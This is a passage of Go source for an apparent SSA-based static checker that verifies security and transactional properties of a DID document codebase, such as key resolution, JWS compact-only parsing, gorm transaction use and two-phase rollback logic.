		}
		seen[x] = true
		switch y := x.(type) {
		case *ssa.Phi:
			for _, e := range y.Edges {
				if walk(e) {
					return true
				}
			}
		case *ssa.Call:
			if b, ok := y.Call.Value.(*ssa.Builtin); ok && b.Name() == "append" {
				return walk(y.Call.Args[0])
			}
		}
		return false
	}
	return walk(v)
}

// c09ControllersFromResolver: (*ambassador).resolveControllers returns only documents produced by ResolveControllers.
func c09ControllersFromResolver(r *Report) {
	p := r.P
	rule := "ARG: the controller list returned by (*ambassador).resolveControllers is appended to only with results of ResolveControllers (the proposed document never authorises itself)"
	key := "C09.update.controllers-only-from-resolver"
	fn := p.Func("vdr/didnuts", "ambassador", "resolveControllers")
	if fn == nil {
		r.Lost(key, rule, "function not found")
		return
	}
	n := 0
	for _, b := range fn.Blocks {
		for _, in := range b.Instrs {
			c, ok := in.(*ssa.Call)
			if !ok {
				continue
			}
			bi, ok := c.Call.Value.(*ssa.Builtin)
			if !ok || bi.Name() != "append" {
				continue
			}
			n++
			if !CallV(Fn("vdr/didnuts", "", "ResolveControllers"), 0).M(c.Call.Args[1]) {
				r.Bad(key, rule, p.Pos(c.Pos()), "appended value is "+AccessPath(c.Call.Args[1], 0))
				return
			}
		}
	}
	r.Sites += n
	if n < 2 {
		r.Lost(key, rule, fmt.Sprintf("%d appends found", n))
		return
	}
	r.OK(key, rule, p.Pos(fn.Pos()), fmt.Sprintf("%d append(s), all of ResolveControllers results", n), true)
}

func c09KeyResolvedAsOfPrevs(r *Report, up *ssa.Function) {
	rule := "ARG: the signing key is resolved with the transaction's own key id and previous transactions"
	key := "C09.update.key-as-of-prevs"
	if up == nil {
		r.Lost(key, rule, "function not found")
		return
	}
	calls := Calls(up, Fn("vdr/resolver", "NutsKeyResolver", "ResolvePublicKey"))
	r.Sites += len(calls)
	if len(calls) != 1 {
		r.Lost(key, rule, "ResolvePublicKey call not found")
		return
	}
	a0, a1 := AccessPath(CallArg(calls[0].Common(), 0), 0), AccessPath(CallArg(calls[0].Common(), 1), 0)
	if !strings.Contains(a0, "SigningKeyID(transaction") || !strings.Contains(a1, "Previous(transaction") {
		r.Bad(key, rule, r.P.Pos(calls[0].Pos()), "arguments are "+a0+", "+a1)
		return
	}
	r.OK(key, rule, r.P.Pos(calls[0].Pos()), "ResolvePublicKey(transaction.SigningKeyID(), transaction.Previous())", true)
}

func c09FindResult(r *Report, fk *ssa.Function) {
	rule := "GATE: findKeyByThumbprint returns a key only after bytes.Equal(thumbprint, documentThumbprint) was true"
	key := "C09.find.result"
	if fk == nil {
		r.Lost(key, rule, "function not found")
		return
	}
	// the returned key is a phi of nil and keyAsJWK; the edge carrying keyAsJWK must come through the Equal-true edge
	r.Gate(Gate{ID: key, Fn: fk, Check: CallCheck(Fn("std:bytes", "", "Equal"), -1, IsTrue), Effect: ReturnsNonNil(0)})
}

func c09ValidatorTable(r *Report) {
	p := r.P
	rule := "TABLE: NetworkDocumentValidator runs the W3C, verification-method and basic service validators"
	key := "C09.validator-table"
	fn := p.Func("vdr/didnuts", "", "NetworkDocumentValidator")
	if fn == nil {
		r.Lost(key, rule, "function not found")
		return
	}
	have := map[string]bool{}
	for _, b := range fn.Blocks {
		for _, in := range b.Instrs {
			if mi, ok := in.(*ssa.MakeInterface); ok {
				if n := NamedOf(mi.X.Type()); n != nil {
					have[n.Obj().Name()] = true
				}
			}
		}
	}
	r.Sites += len(have)
	var missing []string
	for _, w := range []string{"W3CSpecValidator", "verificationMethodValidator", "basicServiceValidator"} {
		if !have[w] {
			missing = append(missing, w)
		}
	}
	sort.Strings(missing)
	if len(missing) > 0 {
		r.Bad(key, rule, p.Pos(fn.Pos()), "missing validators: "+strings.Join(missing, ", "))
		return
	}
	r.OK(key, rule, p.Pos(fn.Pos()), "3 validators listed", true)
}

// c09ValidatedDocIsHandled: the document handed to the handlers is the one that was decoded and validated.
func c09ValidatedDocIsHandled(r *Report, cb *ssa.Function) {
	rule := "ARG: the document validated by the network validator is the document handed to the create/update handler"
	key := "C09.callback.same-document"
	if cb == nil {
		r.Lost(key, rule, "callback not found")
		return
	}
	val := Calls(cb, Fn("github.com/nuts-foundation/go-did/did", "Validator", "Validate"))
	if len(val) != 1 {
		r.Lost(key, rule, "Validate call not found")
		return
	}
	vdoc := AccessPath(CallArg(val[0].Common(), 0), 0)
	n := 0
	for _, h := range []string{"handleCreateDIDDocument", "handleUpdateDIDDocument"} {
		for _, ci := range Calls(cb, Fn("vdr/didnuts", "ambassador", h)) {
			n++
			if got := AccessPath(CallArg(ci.Common(), 1), 0); got != vdoc {
				r.Bad(key, rule, r.P.Pos(ci.Pos()), fmt.Sprintf("%s receives %s but %s was validated", h, got, vdoc))
				return
			}
		}
	}
	r.Sites += n + 1
	if n != 2 {
		r.Lost(key, rule, "handler calls not found")
		return
	}
	r.OK(key, rule, r.P.Pos(cb.Pos()), "validated and handled document are the same variable ("+vdoc+")", true)
}

// c09ThumbprintFromKeyMaterial: before AssignKeyID computes the kid, any kid carried by the untrusted JWK is removed.
func c09ThumbprintFromKeyMaterial(r *Report, vt *ssa.Function) {
	rule := "ORDER: the key id compared with the fragment is derived from the key material: an embedded kid is removed (Remove(\"kid\")) before jwk.AssignKeyID (which is a no-op when a kid is present)"
	key := "C09.vm.thumbprint-from-key-material"
	if vt == nil {
		r.Lost(key, rule, "verifyThumbprint not found")
		return
	}
	assign := Calls(vt, Fn(jwkPkg, "", "AssignKeyID"))
	tp := Calls(vt, Fn(jwkPkg, "Key", "Thumbprint"))
	r.Sites += len(assign) + len(tp)
	if len(assign) == 0 && len(tp) > 0 {
		r.OK(key, rule, r.P.Pos(vt.Pos()), "thumbprint computed directly from the key", true)
		return
	}
	if len(assign) == 0 {
		r.Lost(key, rule, "neither AssignKeyID nor Thumbprint found")
		return
	}
	for _, rm := range Calls(vt, Fn(jwkPkg, "Key", "Remove")) {
		if s, ok := ConstString(CallArg(rm.Common(), 0)); ok && s == "kid" && InstrDominates(rm, assign[0]) {
			r.OK(key, rule, r.P.Pos(rm.Pos()), "Remove(\"kid\") dominates AssignKeyID", true)
			return
		}
	}
	r.Bad(key, rule, r.P.Pos(assign[0].Pos()), "jwk.AssignKeyID is applied to the untrusted JWK without removing an embedded kid first: a document can choose its own key id")
}

// baseFrom: the local variable at the base of v's access path is only ever assigned values whose path contains sub
// (e.g. a range variable over the result of a call).
func baseFrom(v ssa.Value, sub string) bool {
	for i := 0; i < 10; i++ {
		switch x := v.(type) {
		case *ssa.UnOp:
			v = x.X
		case *ssa.FieldAddr:
			v = x.X
		case *ssa.Field:
			v = x.X
		case *ssa.IndexAddr:
			v = x.X
		case *ssa.Index:
			v = x.X
		case *ssa.Alloc:
			n := 0
			for _, ref := range *x.Referrers() {
				if st, ok := ref.(*ssa.Store); ok && st.Addr == x {
					n++
					if !strings.Contains(AccessPath(st.Val, 0), sub) {
						return false
					}
				}
			}
			return n > 0
		default:
			return false
		}
	}
	return false
}

// c09SeenSetKey: the id recorded in the seen-set is the very value that was looked up (recording a different rendering
// of the id — e.g. after the fragment was cleared — makes the duplicate test vacuous).
func c09SeenSetKey(r *Report, fn *ssa.Function) {
	rule := "ARG: verifyDocumentEntryID records in knownIDs exactly the key it looked up"
	key := "C09.entry.unique.same-key"
	if fn == nil {
		r.Lost(key, rule, "verifyDocumentEntryID not found")
		return
	}
	var lk *ssa.Lookup
	var mu *ssa.MapUpdate
	for _, b := range fn.Blocks {
		for _, in := range b.Instrs {
			switch x := in.(type) {
			case *ssa.Lookup:
				if ParamV("knownIDs").M(x.X) {
					lk = x
				}
			case *ssa.MapUpdate:
				if ParamV("knownIDs").M(x.Map) {
					mu = x
				}
			}
		}
	}
	r.Sites += 2
	if lk == nil || mu == nil {
		r.Lost(key, rule, "lookup / update of knownIDs not found")
		return
	}
	if lk.Index != mu.Key {
		r.Bad(key, rule, r.P.Pos(mu.Pos()), "looked up "+AccessPath(lk.Index, 0)+" but recorded "+AccessPath(mu.Key, 0))
		return
	}
	r.OK(key, rule, r.P.Pos(mu.Pos()), "same SSA value", true)
}
