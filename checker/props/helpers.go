package props

import (
	"fmt"
	"go/token"
	"go/types"
	"sort"
	"strings"

	"golang.org/x/tools/go/ssa"

	. "verifcheck/an"
)

func capturedLoads(name string) func(fn *ssa.Function) []ssa.Value { return CapturedLoads(name) }

// shelfWriterSites: calls GetShelfWriter(<const constName of pkg>).
func shelfWriterSites(p *Prog, pkg, constName string) []Site {
	val, ok := p.ConstValue(pkg, constName)
	if !ok {
		return nil
	}
	return p.ConstArgCallSites(Fn(stoabsPkg, "WriteTx", "GetShelfWriter"), 0, val)
}

// storedFuncs returns the functions stored into slice literal elements in fn whose element type is named typeName.
func sliceLitFuncs(fn *ssa.Function, typeName string) []*ssa.Function {
	var out []*ssa.Function
	for _, b := range fn.Blocks {
		for _, in := range b.Instrs {
			st, ok := in.(*ssa.Store)
			if !ok {
				continue
			}
			if _, ok := st.Addr.(*ssa.IndexAddr); !ok {
				continue
			}
			v := st.Val
			for i := 0; i < 3; i++ {
				if ct, ok := v.(*ssa.ChangeType); ok {
					v = ct.X
				}
			}
			n := NamedOf(st.Val.Type())
			if n == nil || n.Obj().Name() != typeName {
				continue
			}
			if f, ok := v.(*ssa.Function); ok {
				out = append(out, f)
			}
		}
	}
	return out
}

func c06StepTable(r *Report, parse *ssa.Function) {
	rule := "TABLE: the parse-step list contains every function of type transactionParseStep declared in network/dag"
	if parse == nil {
		r.Lost("C06.steps-table", rule, "ParseTransaction not found")
		return
	}
	pk := r.P.Pkg("network/dag")
	tn, _ := pk.Types.Scope().Lookup("transactionParseStep").(*types.TypeName)
	if tn == nil {
		r.Lost("C06.steps-table", rule, "type transactionParseStep not found")
		return
	}
	sig := tn.Type().Underlying().(*types.Signature)
	declared := map[string]bool{}
	for _, n := range pk.Types.Scope().Names() {
		f, ok := pk.Types.Scope().Lookup(n).(*types.Func)
		if ok && types.Identical(f.Type(), sig) && r.P.FileClass(f.Pos()) == "prod" {
			declared[n] = true
		}
	}
	listed := map[string]bool{}
	for _, f := range sliceLitFuncs(parse, "transactionParseStep") {
		listed[f.Name()] = true
	}
	r.Sites += len(declared) + len(listed)
	var missing []string
	for n := range declared {
		if !listed[n] {
			missing = append(missing, n)
		}
	}
	sort.Strings(missing)
	if len(listed) < 5 {
		r.Lost("C06.steps-table", rule, fmt.Sprintf("only %d listed steps recognised", len(listed)))
		return
	}
	if len(missing) > 0 {
		r.Bad("C06.steps-table", rule, r.P.Pos(parse.Pos()), "declared parse steps not in the list run by ParseTransaction: "+strings.Join(missing, ", "))
		return
	}
	r.OK("C06.steps-table", rule, r.P.Pos(parse.Pos()), fmt.Sprintf("%d declared, %d listed", len(declared), len(listed)), true)
}

// c06VerifiersWired: the production call(s) of dag.NewState pass both verifier constructors' results.
func c06VerifiersWired(r *Report) {
	p := r.P
	rule := "TABLE: every production call of dag.NewState passes NewPrevTransactionsVerifier() and NewTransactionSignatureVerifier(...)"
	sites := p.CallSites(Fn("network/dag", "", "NewState"), false)
	n := 0
	for _, s := range sites {
		if p.FileClass(s.Pos) != "prod" {
			continue
		}
		n++
		key := "C06.verifiers-wired @ " + p.FuncName(Outer(s.Fn))
		have := map[string]bool{}
		for _, el := range VariadicElems(s.Instr.(ssa.CallInstruction)) {
			if c, ok := el.(*ssa.Call); ok {
				if f := c.Common().StaticCallee(); f != nil {
					have[f.Name()] = true
				}
			}
		}
		r.Sites += len(have) + 1
		if have["NewPrevTransactionsVerifier"] && have["NewTransactionSignatureVerifier"] {
			r.OK(key, rule, p.Pos(s.Pos), "both verifiers passed", true)
		} else {
			r.Bad(key, rule, p.Pos(s.Pos), fmt.Sprintf("verifiers passed: %v", have))
		}
	}
	if n == 0 {
		r.Lost("C06.verifiers-wired", rule, "no production call of dag.NewState found")
	}
}

// c06KeyAsOfPrevs: every key resolution for transaction signatures names a source transaction (one of the prevs).
func c06KeyAsOfPrevs(r *Report) {
	p := r.P
	rule := "ARG: the signer's key is resolved as of a referenced transaction (ResolveMetadata.SourceTransaction set) — never from the latest document"
	key := "C06.keys.as-of-prevs"
	fn := p.Func("network/dag", "SourceTXKeyResolver", "ResolvePublicKey")
	if fn == nil {
		r.Lost(key, rule, "SourceTXKeyResolver.ResolvePublicKey not found")
		return
	}
	calls := Calls(fn, Fn("network/dag", "", "resolvePublicKey"))
	r.Sites += len(calls)
	if len(calls) == 0 {
		r.Lost(key, rule, "no resolvePublicKey call")
		return
	}
	for _, ci := range calls {
		arg := CallArg(ci.Common(), 2)
		ok := false
		if u, isU := arg.(*ssa.UnOp); isU {
			if al, isA := u.X.(*ssa.Alloc); isA {
				for _, ref := range *al.Referrers() {
					fa, isFa := ref.(*ssa.FieldAddr)
					if !isFa || !FieldPathEnds(&ssa.UnOp{Op: token.MUL, X: fa}, "SourceTransaction") {
						continue
					}
					for _, r2 := range *fa.Referrers() {
						if st, isSt := r2.(*ssa.Store); isSt && !IsNilConst(st.Val) {
							ok = true
						}
					}
				}
			}
		}
		if !ok {
			r.Bad(key, rule, p.Pos(ci.Pos()), "resolvePublicKey is called without a SourceTransaction: a key added after the referenced history would be accepted")
			return
		}
	}
	r.OK(key, rule, p.Pos(fn.Pos()), fmt.Sprintf("%d call(s), each with SourceTransaction", len(calls)), true)
}

// gormZeroValue: zero-count rule "no gorm struct conditions / struct updates in these packages" with an in-tree control
// (the matcher must see string conditions there).
func gormZeroValue(r *Report, id string, why string, minControl int, owners map[string]string, pkgs ...string) {
	if owners == nil {
		owners = map[string]string{}
	}
	sites, ctrl := r.P.GormStructConds(pkgs...)
	r.Own(OwnSpec{ID: id, Op: "build a gorm condition or update from a struct (zero-valued fields are silently dropped: " + why + ")", Sites: sites, Owners: owners, Min: 0})
	rule := "SELF-TEST: the gorm condition matcher sees the string conditions of " + strings.Join(pkgs, ", ")
	r.Sites += ctrl
	if ctrl < minControl {
		r.Undecided(id+".control", rule, "", fmt.Sprintf("%d string conditions found (expected >= %d): the zero-count rule would pass vacuously", ctrl, minControl))
		return
	}
	r.OK(id+".control", rule, "", fmt.Sprintf("%d string conditions", ctrl), false)
}

// gormTxDiscipline: inside every closure handed to (*gorm.DB).Transaction in the given packages, database operations go
// through the closure's transaction handle: no gorm call there is rooted at a field (s.db, r.DB ...) or global.
func gormTxDiscipline(r *Report, id string, pkgs ...string) {
	p := r.P
	rule := "ORDER: inside a gorm Transaction closure every database operation uses the transaction handle passed to the closure (an operation on the outer *gorm.DB would run outside the transaction)"
	nCl, nCalls := 0, 0
	for _, fn := range p.Funcs {
		if fn.Pkg == nil || p.FileClass(p.FuncPos(fn)) != "prod" {
			continue
		}
		in := false
		for _, pre := range pkgs {
			if strings.HasPrefix(fn.Pkg.Pkg.Path(), ModPath+"/"+pre) {
				in = true
			}
		}
		if !in {
			continue
		}
		for _, cl := range ClosureArgs(fn, Fn(gormPkg, "DB", "Transaction"), 0) {
			nCl++
			for _, f := range WithAnons(cl) {
				for _, b := range f.Blocks {
					for _, ins := range b.Instrs {
						ci, ok := ins.(ssa.CallInstruction)
						if !ok {
							continue
						}
						sc := ci.Common().StaticCallee()
						if sc == nil || sc.Pkg == nil || sc.Pkg.Pkg.Path() != "gorm.io/gorm" || sc.Signature.Recv() == nil || len(ci.Common().Args) == 0 {
							continue
						}
						if n := NamedOf(sc.Signature.Recv().Type()); n == nil || n.Obj().Name() != "DB" {
							continue
						}
						nCalls++
						root := gormChainRoot(ci.Common().Args[0])
						switch x := root.(type) {
						case *ssa.Parameter, *ssa.FreeVar:
							// the closure's own tx parameter, or a tx handle captured from an enclosing transaction closure
							if fv, ok := x.(*ssa.FreeVar); ok && !strings.Contains(strings.ToLower(fv.Name()), "tx") {
								r.Bad(id+" @ "+p.FuncName(fn), rule, p.Pos(ins.Pos()), "gorm call on captured variable "+fv.Name()+" inside a transaction closure")
								return
							}
						default:
							r.Bad(id+" @ "+p.FuncName(fn), rule, p.Pos(ins.Pos()), "gorm call rooted at "+AccessPath(root, 0)+" inside a transaction closure (not the transaction handle)")
							return
						}
					}
				}
			}
		}
	}
	r.Sites += nCalls
	if nCl == 0 {
		r.Lost(id, rule, "no gorm Transaction closure found in "+strings.Join(pkgs, ", "))
		return
	}
	r.OK(id, rule, "", fmt.Sprintf("%d transaction closures, %d gorm calls, all on the transaction handle", nCl, nCalls), true)
}

// gormChainRoot follows a fluent gorm chain (tx.Where(..).Order(..)) and local copies back to where the *gorm.DB came from.
func gormChainRoot(v ssa.Value) ssa.Value {
	for i := 0; i < 20; i++ {
		v = StripConv(v)
		switch x := v.(type) {
		case *ssa.Call:
			sc := x.Common().StaticCallee()
			if sc != nil && sc.Pkg != nil && (sc.Pkg.Pkg.Path() == "gorm.io/gorm") && sc.Signature.Recv() != nil && len(x.Common().Args) > 0 {
				v = x.Common().Args[0]
				continue
			}
			return v
		case *ssa.Extract:
			v = x.Tuple
			continue
		case *ssa.Phi:
			// all edges must agree on the root kind; take the first non-self edge
			for _, e := range x.Edges {
				if e != ssa.Value(x) {
					v = e
					break
				}
			}
			continue
		case *ssa.UnOp:
			if x.Op == token.MUL {
				if a, ok := x.X.(*ssa.Alloc); ok {
					var val ssa.Value
					for _, ref := range *a.Referrers() {
						if st, ok := ref.(*ssa.Store); ok && st.Addr == ssa.Value(a) {
							val = st.Val
						}
					}
					if val != nil {
						v = val
						continue
					}
				}
				if fv, ok := x.X.(*ssa.FreeVar); ok {
					return fv
				}
			}
			return v
		default:
			return v
		}
	}
	return v
}

// compactParse: `_, err := jws.Parse(input, jws.WithCompact())` with err == nil — the input is a JWS in the compact
// serialization. (jwt.Parse* also accept the JSON serialization, and for a JSON object that carries claim members next to
// the JWS members they verify the embedded signature and then read the claims from the unsigned members.)
func compactParse() Check {
	const jwsPkg = "github.com/lestrrat-go/jwx/v2/jws"
	c := ErrCheck(Fn(jwsPkg, "", "Parse"))
	c.Desc = "jws.Parse(input, jws.WithCompact()) err == nil"
	c.Filter = func(ci ssa.CallInstruction) bool {
		for _, el := range VariadicElems(ci) {
			if call, ok := StripConv(el).(*ssa.Call); ok && Fn(jwsPkg, "", "WithCompact").M(call.Common()) {
				return true
			}
		}
		return false
	}
	return c
}

// compactOnlyEverywhere: every production call of jwt.Parse / ParseString / ParseInsecure-less variants that VERIFIES
// (no jwt.WithVerify(false) option) is reachable, in its function, only behind a compact-only JWS parse (directly or in a
// helper that succeeds only through it).
func compactOnlyEverywhere(r *Report, id string) {
	p := r.P
	const jwtPkg = "github.com/lestrrat-go/jwx/v2/jwt"
	parse := AnyOf(Fn(jwtPkg, "", "Parse"), Fn(jwtPkg, "", "ParseString"), Fn(jwtPkg, "", "ParseReader"), Fn(jwtPkg, "", "ParseRequest"), Fn(jwtPkg, "", "ParseHeader"), Fn(jwtPkg, "", "ParseForm"))
	verifies := func(ci ssa.CallInstruction) bool {
		for _, el := range VariadicElems(ci) {
			call, ok := StripConv(el).(*ssa.Call)
			if !ok || !Fn(jwtPkg, "", "WithVerify").M(call.Common()) {
				continue
			}
			if b, isB := ConstBool(CallArg(call.Common(), 0)); isB && !b {
				return false
			}
		}
		return true
	}
	n := 0
	seen := map[*ssa.Function]bool{}
	for _, s := range p.CallSites(parse, false) {
		ci, ok := s.Instr.(ssa.CallInstruction)
		if !ok || p.FileClass(p.FuncPos(s.Fn)) != "prod" || !verifies(ci) {
			continue
		}
		n++
		if seen[s.Fn] {
			continue
		}
		seen[s.Fn] = true
		eff := InstrEffect("verifying jwt.Parse*", func(in ssa.Instruction) bool {
			c, ok := in.(ssa.CallInstruction)
			return ok && parse.M(c.Common()) && verifies(c)
		})
		r.Gate(Gate{ID: id, Fn: s.Fn, Effect: eff, Check: compactParse(),
			Note: "the claims that are validated must be the signed ones: only the compact serialization guarantees that with this library"})
	}
	r.Sites += n
	if n < 4 {
		r.Lost(id, "GATE: verifying jwt.Parse* calls are behind a compact-only JWS parse", fmt.Sprintf("%d verifying jwt.Parse* call(s) in production code (expected >= 4)", n))
	}
}
