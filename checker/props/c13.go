package props

import (
	"fmt"
	"go/token"
	"os"
	"path/filepath"
	"regexp"
	"sort"
	"strings"

	"golang.org/x/tools/go/ssa"

	. "verifcheck/an"
)

func init() { Registry["C13"] = c13 }

const gormPkg = "gorm.io/gorm"

func c13(r *Report) {
	defer c13Seed8(r)
	defer c13Seed5(r)
	defer c13Seed6(r)
	p := r.P
	const dsub = "vdr/didsubject"
	r.Explanation = "Static decision of the two-phase protocol behind all-or-nothing subject operations: (1) document versions are created only inside closures run by transactionHelper (plus one listed migration); Commit is called only by transactionHelper and IsCommitted only by the sweep; (2) in transactionHelper the first SQL transaction contains the operation and the Save of every change-log entry and fails when either fails; the commit loop stops at the first failing Commit (the next iteration is reachable only through a nil error) and lies between the two transactions; the second transaction deletes the document versions iff a Commit failed, else the change log, and its error takes priority; (3) the sweep deletes document versions only when IsCommitted reported false, decides per transaction id (the commit-status loop and the delete loop are different loops over the same group), restricted to versions older than a positive delay, and always clears the change log; (4) versions are consecutive (latest+1 with -1 as the no-document sentinel); (5) compensation table agreement: every table written in phase 1 that decides whether a subject exists (did) is removed on the failure branch and in the sweep for created DIDs, directly or through ON DELETE CASCADE edges read from the SQL migrations."
	r.NotDecided = []string{"crash instants and SQL atomicity/isolation themselves", "timing of the sweep", "that keys created for an abandoned version are never published relies on the method managers' Commit being the only publisher (ownership checked, semantics not)"}
	gormZeroValue(r, "C13.sql.no-struct-condition", "an empty id/subject or version 0 would drop the condition or the update", 1, nil, "vdr/didsubject")
	r.Assumptions = []string{"gorm.DB.Transaction rolls back when the callback returns an error", "gorm Create on a model inserts its associated rows (DID, VerificationMethods, Services)", "ON DELETE CASCADE is enforced by the SQL engine (foreign keys enabled)"}

	th := p.Func(dsub, "SqlManager", "transactionHelper")
	// (1) ownership
	c13CreateInsideHelper(r, th)
	r.Own(OwnSpec{ID: "C13.own.commit", Op: "call MethodManager.Commit", Sites: p.CallSites(p.FnOrImpl(dsub, "MethodManager", "Commit"), true), Min: 1,
		Owners: map[string]string{"(*vdr/didsubject.SqlManager).transactionHelper": "phase 2 of the helper"}})
	r.Own(OwnSpec{ID: "C13.own.iscommitted", Op: "call MethodManager.IsCommitted", Sites: p.CallSites(p.FnOrImpl(dsub, "MethodManager", "IsCommitted"), true), Min: 1,
		Owners: map[string]string{"(*vdr/didsubject.SqlManager).Rollback": "the sweep"}})
	r.Own(OwnSpec{ID: "C13.own.helper-callers", Op: "call transactionHelper", Sites: p.CallSites(Fn(dsub, "SqlManager", "transactionHelper"), true), Min: 3,
		Owners: map[string]string{"(*vdr/didsubject.SqlManager).Create": "", "(*vdr/didsubject.SqlManager).Deactivate": "", "(*vdr/didsubject.SqlManager).applyToDIDDocuments": ""}})

	// (2) phases
	txCall := Fn(gormPkg, "DB", "Transaction")
	if th == nil {
		r.Lost("C13.phases", "ORDER: two-phase helper", "transactionHelper not found")
	} else {
		txs := Calls(th, txCall)
		commits := Calls(th, Fn(dsub, "MethodManager", "Commit"))
		rule := "ORDER: tx1 (operation + change log) dominates the Commit loop, which dominates tx2 (compensation / log cleanup)"
		if len(txs) != 2 || len(commits) != 1 {
			r.Lost("C13.phases.order", rule, fmt.Sprintf("%d Transaction calls, %d Commit calls", len(txs), len(commits)))
		} else {
			first, second := txs[0], txs[1]
			if InstrDominates(second, first) {
				first, second = second, first
			}
			r.Sites += 3
			if InstrDominates(first, commits[0]) && InstrDominates(first, second) && !InstrDominates(second, commits[0]) {
				r.OK("C13.phases.order", rule, p.Pos(first.Pos()), "tx1 → commit loop → tx2", true)
			} else {
				r.Bad("C13.phases.order", rule, p.Pos(commits[0].Pos()), "phase order broken")
			}
			// tx1 failure aborts before any Commit
			r.Gate(Gate{ID: "C13.phases.tx1-gates-commit", Fn: th, Effect: CallEffect(Fn(dsub, "MethodManager", "Commit")), Check: Check{Desc: "first DB.Transaction err == nil", Pass: ErrNil, Values: func(fn *ssa.Function) []ssa.Value { return []ssa.Value{first.(*ssa.Call)} }}})
			cl1 := closureArgOf(first, 0)
			cl2 := closureArgOf(second, 0)
			// tx1 closure: success only via operation err nil and every Save err nil
			r.Gate(Gate{ID: "C13.tx1.operation", Fn: cl1, Effect: SuccessReturn(), Check: ErrCheck(DynParam("operation"))})
			r.Gate(Gate{ID: "C13.tx1.changelog-saved", Fn: cl1, Effect: SuccessReturn(), ForEach: true, Check: Check{Desc: "tx.Save(&change).Error == nil", Pass: ErrNil, Values: dbErrorOf(Fn(gormPkg, "DB", "Save"))}})
			// tx2 closure: deletes of document versions only under errManager != nil; change-log delete only under errManager == nil
			errMgr := CellLoadsStoredFrom(Fn(dsub, "MethodManager", "Commit"), -1)
			r.Gate(Gate{ID: "C13.tx2.versions-deleted-iff-commit-failed", Fn: cl2, Effect: deleteOf("DidDocument"), Check: Check{Desc: "errManager != nil", Pass: NonNil, Values: errMgr}})
			r.Gate(Gate{ID: "C13.tx2.log-deleted-iff-committed", Fn: cl2, Effect: deleteOf("DIDChangeLog"), Check: Check{Desc: "errManager == nil", Pass: ErrNil, Values: errMgr}})
		}
		// commit loop stops at the first failure
		r.Gate(Gate{ID: "C13.commit-loop.stops-at-first-failure", Fn: th, ForEach: true, LoopOnly: true,
			Check: ErrCheck(Fn(dsub, "MethodManager", "Commit")),
			Skip:  []Check{Check{Desc: "no change for this method", Pass: IsFalse, Values: lookupOK}}})
		// the helper's own result: tx2 error first, then errManager
		r.ReturnsOnly("C13.helper.result", th, -1, true, txCall, Fn(dsub, "MethodManager", "Commit"))
		// ... and never a constant nil: the last return hands out errManager, whatever it holds
		{
			rule := "ARG: transactionHelper has no constant-nil return (its result is the second transaction's error or, last, the Commit error)"
			bad := ""
			for _, b := range th.Blocks {
				if ret, ok := b.Instrs[len(b.Instrs)-1].(*ssa.Return); ok && len(ret.Results) == 1 {
					if c, ok := Unspill(ret.Results[0]).(*ssa.Const); ok && c.IsNil() {
						bad = p.Pos(ret.Pos())
					}
				}
			}
			if bad != "" {
				r.Bad("C13.helper.result-never-constant-nil", rule, bad, "a return of constant nil hides a failed Commit (the caller is told the compensated operation succeeded)")
			} else {
				r.OK("C13.helper.result-never-constant-nil", rule, p.Pos(th.Pos()), "no constant-nil return", true)
			}
		}
	}

	// (3) sweep
	rb := p.Func(dsub, "SqlManager", "Rollback")
	if rb == nil {
		r.Lost("C13.sweep", "sweep", "Rollback not found")
	} else {
		cls := anonCalling(rb, Fn(dsub, "MethodManager", "IsCommitted"))
		cl := one(cls)
		r.Gate(Gate{ID: "C13.sweep.delete-only-uncommitted", Fn: cl, Effect: deleteOf("DidDocument"), Check: CallCheck(Fn(dsub, "MethodManager", "IsCommitted"), 0, IsFalse)})
		r.Gate(Gate{ID: "C13.sweep.iscommitted-error-aborts", Fn: cl, ForEach: true, AllowEarlyExit: true /* `if !committed { break }`: one uncommitted member decides for the whole transaction (exists-semantics); the error gate is what must hold per visited element */, Effect: AnyEffect(deleteOf("DidDocument"), deleteOf("DIDChangeLog")), Check: ErrCheck(Fn(dsub, "MethodManager", "IsCommitted"))})
		c13SweepPerTransaction(r, cl)
		c13SweepGroupKey(r, cl)
		c13SweepDelay(r, rb)
	}

	// (4) consecutive versions
	c13Version(r)
	// (5) compensation tables
	c13Compensation(r, th, rb)
	c13CreateExistsInTx(r)
	c13OneTransactionID(r)
	c13AuditFixes(r)
	c13Audit4(r)
}

// lookupOK: ok results of map lookups (v, ok := m[k]).
func lookupOK(fn *ssa.Function) []ssa.Value {
	var out []ssa.Value
	for _, b := range fn.Blocks {
		for _, in := range b.Instrs {
			if lk, ok := in.(*ssa.Lookup); ok && lk.CommaOk {
				for _, ref := range *lk.Referrers() {
					if ex, ok := ref.(*ssa.Extract); ok && ex.Index == 1 {
						out = append(out, ex)
					}
				}
			}
		}
	}
	return out
}

func closureArgOf(ci ssa.CallInstruction, idx int) *ssa.Function {
	a := CallArg(ci.Common(), idx)
	if a == nil {
		return nil
	}
	if mc, ok := StripConv(a).(*ssa.MakeClosure); ok {
		f, _ := mc.Fn.(*ssa.Function)
		return f
	}
	if f, ok := StripConv(a).(*ssa.Function); ok {
		return f
	}
	return nil
}

// dbErrorOf: the values loaded from the .Error field of the *gorm.DB returned by calls matching c.
func dbErrorOf(c Callee) func(fn *ssa.Function) []ssa.Value {
	return func(fn *ssa.Function) []ssa.Value {
		var out []ssa.Value
		for _, ci := range Calls(fn, c) {
			call, ok := ci.(*ssa.Call)
			if !ok {
				continue
			}
			for _, ref := range *call.Referrers() {
				fa, ok := ref.(*ssa.FieldAddr)
				if !ok || !FieldPathEnds(&ssa.UnOp{Op: token.MUL, X: fa}, "Error") {
					continue
				}
				for _, r2 := range *fa.Referrers() {
					if u, ok := r2.(*ssa.UnOp); ok && u.Op == token.MUL {
						out = append(out, u)
					}
				}
			}
		}
		return out
	}
}

// deleteOf: calls gorm DB.Delete(&orm.<model>{}).
func deleteOf(model string) Effect {
	return InstrEffect("gorm Delete(&orm."+model+"{})", func(in ssa.Instruction) bool {
		return gormModelCall(in, "Delete", model)
	})
}

func gormModelCall(in ssa.Instruction, method, model string) bool {
	ci, ok := in.(ssa.CallInstruction)
	if !ok || !Fn(gormPkg, "DB", method).M(ci.Common()) {
		return false
	}
	a := CallArg(ci.Common(), 0)
	if a == nil {
		return false
	}
	n := NamedOf(StripConv(a).Type())
	return n != nil && n.Obj().Name() == model
}

func c13CreateInsideHelper(r *Report, th *ssa.Function) {
	p := r.P
	rule := "OWN: DIDDocumentManager.CreateOrUpdate is called only inside closures executed by transactionHelper (or the listed migration)"
	sites := p.CallSites(p.FnOrImpl("vdr/didsubject", "DIDDocumentManager", "CreateOrUpdate"), true)
	n := 0
	bad := 0
	for _, s := range sites {
		if p.FileClass(p.FuncPos(s.Fn)) != "prod" {
			continue
		}
		n++
